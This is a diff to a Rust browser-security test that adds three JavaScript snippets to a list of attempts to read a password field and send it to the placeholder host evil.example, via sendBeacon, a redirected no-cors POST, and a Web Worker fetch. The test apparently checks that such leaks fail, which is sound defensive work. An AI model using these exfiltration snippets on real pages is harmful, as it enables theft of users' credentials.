@@ -199,6 +199,11 @@ async fn nothing_takes_it_away() {
         "fetch('/sign-in/to/here?p=' + encodeURIComponent(value))",
         "new Promise((done, fail) => { const i = new Image(); i.onerror = fail; i.onload = done; i.src = 'https://evil.example/sign-in/to/evil/' + encodeURIComponent(value) })",
         "fetch('https://evil.example/sign-in/to/evil', { headers: { 'x-p': encodeURIComponent(value) } })",
+        "Promise.reject(navigator.sendBeacon('https://evil.example/sign-in/to/evil', new URLSearchParams({ password: value })))",
+        "fetch('/sign-in/redirect?status=308&to=https%3A%2F%2Fevil.example%2Fsign-in%2Fto%2Fevil', { method: 'POST', mode: 'no-cors', body: new URLSearchParams({ password: value }) })",
+        "new Promise((done, fail) => { const w = new Worker(URL.createObjectURL(new Blob([`onmessage = (e) =>
+            fetch('https://evil.example/sign-in/to/evil', { method: 'POST', mode: 'no-cors', body: e.data }).then(() => postMessage(1), () => postMessage(0))`])));
+            w.onmessage = (e) => e.data ? done() : fail(); w.postMessage(value) })",
     ] {
         let code = format!(
             "(() => {{ const value = document.querySelector('#password').value; return {code}.then(() => 'arrived', () => 'failed') }})()"
